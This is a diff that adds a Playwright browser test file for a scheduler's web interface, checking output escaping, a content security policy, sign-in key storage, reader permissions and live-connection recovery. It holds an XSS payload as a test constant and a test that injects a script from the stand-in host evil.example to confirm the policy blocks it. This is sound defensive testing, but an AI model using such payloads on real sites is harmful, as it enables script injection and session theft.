@@ -1,0 +1,107 @@
+"""Who may do what on the page, and what the output of a run cannot do there."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from playwright.sync_api import BrowserContext, Page, expect
+
+from tests.web.kit import Service, make_key, serving
+
+HOSTILE = "<img src=x onerror=alert(1)><script>document.title='owned'</script>"
+FAR = "0 0 1 1 *"
+
+
+def test_the_output_of_a_run_is_text_and_nothing_else(page: Page, service: Service) -> None:
+    service.other.create("hostile", cron=FAR, function="tasks:hostile", description=HOSTILE, payload=HOSTILE)
+    service.other.create("fails", cron=FAR, function="tasks:fails")
+    page.goto(f"{service.url}/schedules")
+    for name, label in (("hostile", "the result"), ("fails", "the error")):
+        run = service.other.trigger(name)
+        page.goto(f"{service.url}/runs/{run.run_id}")
+        expect(page.get_by_label(label, exact=True)).to_contain_text(HOSTILE)
+        expect(page).to_have_title(f"Run {run.run_id} · Foliot")
+    for tab in ("", "/runs", "/audit", "/json", "/versions"):
+        page.goto(f"{service.url}/schedules/hostile{tab}")
+        expect(page.get_by_text(HOSTILE).first).to_be_visible()
+    assert page.locator("img[src=x]").count() == 0
+
+
+def test_a_script_that_gets_onto_the_page_is_not_run(page: Page, service: Service, wrong: list[str]) -> None:
+    """The policy is what is left when everything else has failed."""
+    page.goto(f"{service.url}/schedules")
+    expect(page.get_by_role("heading", level=1)).to_be_visible()
+    blocked = page.evaluate(
+        """() => new Promise(resolve => {
+            document.addEventListener('securitypolicyviolation', event => {
+                event.stopImmediatePropagation()
+                resolve(event.effectiveDirective)
+            }, { once: true })
+            const script = document.createElement('script')
+            script.src = 'https://evil.example/x.js'
+            document.body.append(script)
+        })"""
+    )
+    assert blocked == "script-src-elem"
+    page.wait_for_function("true")  # what the browser says of it has arrived
+    assert len(wrong) == 1
+    assert "evil.example" in wrong.pop()
+
+
+def test_sign_in_with_a_key_and_out_again(window: BrowserContext, tmp_path: Path) -> None:
+    with serving(tmp_path, "--auth", "required") as service:
+        page = window.new_page()
+        page.goto(f"{service.url}/schedules?state=paused")
+        page.get_by_label("API key or token").fill("flt_000000000000_" + "0" * 48)
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_text("this API key is not known")).to_be_visible()
+        page.get_by_label("API key or token").fill(make_key(tmp_path, "operator"))
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_role("heading", name="No schedule matches")).to_be_visible()
+        assert page.evaluate("document.cookie") == "", "no script reads it"
+        kept = page.evaluate("JSON.stringify([localStorage, sessionStorage])")
+        assert "flt_" not in kept
+        page.reload()
+        expect(page.get_by_role("heading", name="Schedules", level=1)).to_be_visible()
+        page.get_by_role("button", name="Signed in as").click()
+        page.get_by_role("menuitem", name="Sign out").click()
+        expect(page.get_by_role("button", name="Sign in")).to_be_visible()
+        page.reload()
+        expect(page.get_by_role("button", name="Sign in")).to_be_visible()
+
+
+def test_a_reader_is_shown_nothing_that_they_may_not_do(window: BrowserContext, tmp_path: Path) -> None:
+    with serving(tmp_path, "--auth", "required") as service:
+        editor = make_key(tmp_path, "editor")
+        with_key = Service(service.url, tmp_path, editor)
+        with_key.other.create("report", cron=FAR, function="tasks:work")
+        with_key.other.trigger("report")
+        page = window.new_page()
+        page.goto(f"{service.url}/schedules")
+        page.get_by_label("API key or token").fill(make_key(tmp_path, "reader"))
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_role("link", name="report", exact=True)).to_be_visible()
+        for name in ("Pause report", "Trigger report now", "Skip the next tick of report", "Many at once"):
+            expect(page.get_by_role("button", name=name)).to_have_count(0)
+        expect(page.get_by_role("checkbox")).to_have_count(0)
+        for tab in ("", "/versions", "/backfills"):
+            page.goto(f"{service.url}/schedules/report{tab}")
+            expect(page.get_by_role("heading", name="report", level=1)).to_be_visible()
+            for name in ("Pause", "Trigger now", "Restore version 1", "Run them again", "More actions"):
+                expect(page.get_by_role("button", name=name, exact=True)).to_have_count(0)
+        with_key.other.close()
+
+
+def test_a_service_that_goes_away_is_said_to_and_comes_back_by_itself(
+    window: BrowserContext, service: Service, wrong: list[str]
+) -> None:
+    page = window.new_page()
+    page.goto(f"{service.url}/schedules")
+    expect(page.get_by_role("img", name="Live: what changes is shown as it happens")).to_be_visible()
+    page.route("**/api/v1/events", lambda route: route.abort())
+    page.reload()
+    expect(page.get_by_role("img", name="Not live")).to_be_visible()
+    page.unroute("**/api/v1/events")
+    expect(page.get_by_role("img", name="Live: what changes is shown as it happens")).to_be_visible()
+    assert {each.partition(":")[0] for each in wrong} == {"Failed to load resource"}
+    wrong.clear()
